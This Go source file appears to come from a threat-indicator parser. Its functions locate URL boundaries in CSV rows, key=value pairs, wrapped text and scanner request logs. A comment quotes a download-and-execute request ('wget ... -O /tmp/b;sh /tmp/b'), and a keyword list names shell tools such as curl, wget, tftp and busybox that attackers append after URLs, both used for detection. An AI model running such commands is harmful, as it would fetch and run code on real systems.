package indicator

import (
	"regexp"
	"strings"
	"unicode"
	"unicode/utf8"
)

// longestRow is how much of a row of commas is looked at.
const longestRow = 2_000

// rowEnd finds where a URL ends that is the first cell of a row: the line above has
// as many commas. It gives 0 when it is none.
func (s *scanner) rowEnd(start, from, stop int) int {
	cut := strings.IndexByte(s.text[from:stop], ',')
	if cut <= 0 || start != s.line || s.line == 0 {
		return 0
	}
	above := s.text[max(0, s.line-longestRow) : s.line-1]
	above = above[strings.LastIndexByte(above, '\n')+1:]
	row, _, _ := strings.Cut(s.text[s.line:min(len(s.text), s.line+longestRow)], "\n")
	if n := strings.Count(row, ","); n < 2 || n != strings.Count(above, ",") {
		return 0
	}
	return from + cut
}

// commandEnd finds where a URL ends that is one cell of a row ("url;http://a;x")
// or a word of a shell's command in the request of a scanner:
// "wget+http://a/b+-O+/tmp/b;sh+/tmp/b". It gives 0 when it goes to its end.
func commandEnd(u string, before byte) int {
	switch before {
	case '+':
		return max(0, strings.IndexAny(u, "+;"))
	case ';', ',':
		return max(0, strings.IndexByte(u, before))
	}
	for i := 0; i < len(u); i++ {
		if u[i] == ';' && shellWord(u[i+1:]) {
			return i
		}
	}
	return 0
}

// closedEnd finds where a URL ends that stands in the quotes of a program, or is the
// value of one of several pairs with no blank between them. It gives 0 when it is
// neither.
func (s *scanner) closedEnd(start, from int) int {
	end := 0
	switch s.peek(start - 1) {
	case '\'':
		end = from
		for end < min(len(s.text), from+maxURL) && urlByte(s.text[end]) && s.text[end] != '\'' {
			end++
		}
		if s.peek(end) != '\'' {
			return 0
		}
	case '=':
		end = s.pairEnd(start, from)
	}
	return max(end, 0)
}

// pairEnd finds the end of the value of a pair: "ip=203.0.113.5;url=http://a.example/x;md5=…".
func (s *scanner) pairEnd(start, from int) int {
	key := start - 1
	for key > 0 && start-key < maxKey && (alnum(s.text[key-1]) || s.text[key-1] == '_') {
		key--
	}
	parts, capital := s.peek(key-1), upper(s.text[key])
	for i := from; i < min(len(s.text), from+maxURL) && s.text[i] > ' '; i++ {
		c := s.text[i]
		if c != ';' && c != ',' && c != '|' || c != parts && !(capital && upper(s.peek(i+1))) {
			continue
		}
		end := i + 1
		for end < len(s.text) && end-i < maxKey && (alnum(s.text[end]) || s.text[end] == '_') {
			end++
		}
		if end > i+1 && s.peek(end) == '=' {
			return i
		}
	}
	return 0
}

// maxKey is longer than the keys of such pairs are.
const maxKey = 24

// shellWord knows the commands with which scanners go on behind a URL.
func shellWord(rest string) bool {
	rest = strings.TrimPrefix(rest, "+")
	for _, command := range [...]string{"chmod", "sh+", "sh ", "sh%", "sh$", "./", "curl", "wget", "tftp", "bash", "cd+", "cd ", "cd%", "rm+", "rm ", "cat+", "busybox", "/bin/"} {
		if strings.HasPrefix(rest, command) {
			return true
		}
	}
	return false
}

// maxWraps is over how many lines a URL in angle brackets may go.
const maxWraps = 12

// wrapped joins a URL in angle brackets that goes on in the next lines (RFC 3986
// appendix C): "<http://example.com/a", line break, "b>".
func (s *scanner) wrapped(start, from, stop int) (string, int) {
	if s.peek(start-1) != '<' && !strings.HasSuffix(s.text[:start], "<URL:") || s.peek(stop) != '\n' && s.peek(stop) != '\r' {
		return "", 0
	}
	var whole strings.Builder
	at := from
	for range maxWraps {
		end := at
		for end < len(s.text) && end-from < maxURL && urlByte(s.text[end]) {
			end++
		}
		whole.WriteString(s.text[at:end])
		switch s.peek(end) {
		case '>':
			return whole.String(), end
		case '\r', '\n':
		default:
			return "", 0
		}
		at = end + 1
		for at < len(s.text) && at-end < 12 && strings.IndexByte("\r\n \t", s.text[at]) >= 0 {
			at++
		}
	}
	return "", 0
}

// urlByte tells the signs a URL is made of; others end it.
func urlByte(c byte) bool { return urlBytes[c] }

var urlBytes = func() (set [256]bool) {
	for c := byte('!'); c < 0x7f; c++ {
		set[c] = strings.IndexByte("<>\"`|^{}", c) < 0
	}
	return set
}()

// urlEnd finds where a URL stops: at blanks, quotes and brackets that it did
// not open, and before punctuation that belongs to the sentence.
func (s *scanner) urlEnd(from int) int {
	end, limit, open := from, min(len(s.text), from+maxURL), 0
	for end < limit {
		c := s.text[end]
		if c >= 0x80 {
			r, size := utf8.DecodeRuneInString(s.text[end:])
			if !unicode.IsLetter(r) && !unicode.IsDigit(r) && !unicode.IsMark(r) || unspaced(r) && end > from && endsWord(s.text[end-1]) {
				break
			}
			end += size
			continue
		}
		if c == '{' {
			if end = s.filled(end); s.text[end] != '{' {
				continue
			}
		}
		if !urlByte(c) || (c == ',' || c == ';') && beginsURL(s.text[end+1:]) || (c == ']' || c == ')') && markdown(c, s.text[end+1:]) || c == '(' && aside(s.text[end+1:]) {
			break
		}
		if c == '[' {
			open++
		} else if c == ']' {
			if open--; open < 0 {
				break
			}
		}
		end++
	}
	end = min(end, limit)
	return from + len(trimURL(s.text[from:end]))
}

// maxField is the longest name of a field in a template.
const maxField = 40

// filled steps over a field that a kit fills in, "{email}" or "{0f9a-…}"; what is
// none it leaves.
func (s *scanner) filled(open int) int {
	for i := open + 1; i < min(len(s.text), open+maxField); i++ {
		switch c := s.text[i]; {
		case c == '}' && i > open+1:
			return i + 1
		case !alnum(c) && c != '-' && c != '_':
			return open
		}
	}
	return open
}

// markdown tells the bracket that closes the words of a link, "](http", and the
// one that closes its target before the next, ")[".
func markdown(closing byte, rest string) bool {
	return strings.HasPrefix(rest, "(h") || closing == ')' && strings.HasPrefix(rest, "[")
}

// aside tells a remark in brackets of a script without blanks, which stands right
// behind the URL: "http://a.example/x（短縮URL）".
func aside(rest string) bool {
	if rest == "" || rest[0] < 0x80 {
		return false
	}
	r, _ := utf8.DecodeRuneInString(rest)
	return unspaced(r)
}

// beginsURL tells the next URL of a list: "http://a.example/x,http://b.example/y".
func beginsURL(rest string) bool {
	if len(rest) < len("http://") || rest[0]|0x20 != 'h' {
		return false
	}
	scheme, _, found := strings.Cut(rest[:min(len(rest), 8)], "://")
	if !found {
		return false
	}
	known, _ := readScheme(scheme)
	return known != ""
}

// query is what name servers log of a question: name, type and class.
var query = regexp.MustCompile(`^/(?:A|AAAA|ANY|MX|TXT|NS|SOA|CNAME|PTR|SRV|DS|DNSKEY|RRSIG|NSEC3?|HTTPS|SVCB|TYPE[0-9]{1,5})/(?:IN|CH|HS)$`)

// endsWord tells the signs behind which letters of a script without blanks are
// the sentence's and not the URL's.
func endsWord(c byte) bool { return alnum(c) || strings.IndexByte(",.;:!?)", c) >= 0 }

// sentenceEnds is punctuation that closes a sentence and no URL.
const sentenceEnds = ".,;:!?'*\\"

// trimURL takes off what closes a sentence and brackets never opened.
func trimURL(u string) string {
	if u == "" || strings.IndexByte(sentenceEnds+")]", u[len(u)-1]) < 0 {
		return u
	}
	open := [...]int{count(u, '(', ')'), count(u, '[', ']')}
	for u != "" {
		switch last := u[len(u)-1]; {
		case strings.IndexByte(sentenceEnds, last) >= 0:
		case last == ')' && open[0] < 0:
			open[0]++
		case last == ']' && open[1] < 0:
			open[1]++
		default:
			return u
		}
		u = u[:len(u)-1]
	}
	return u
}

func count(u string, open, close byte) int {
	return strings.Count(u, string(open)) - strings.Count(u, string(close))
}
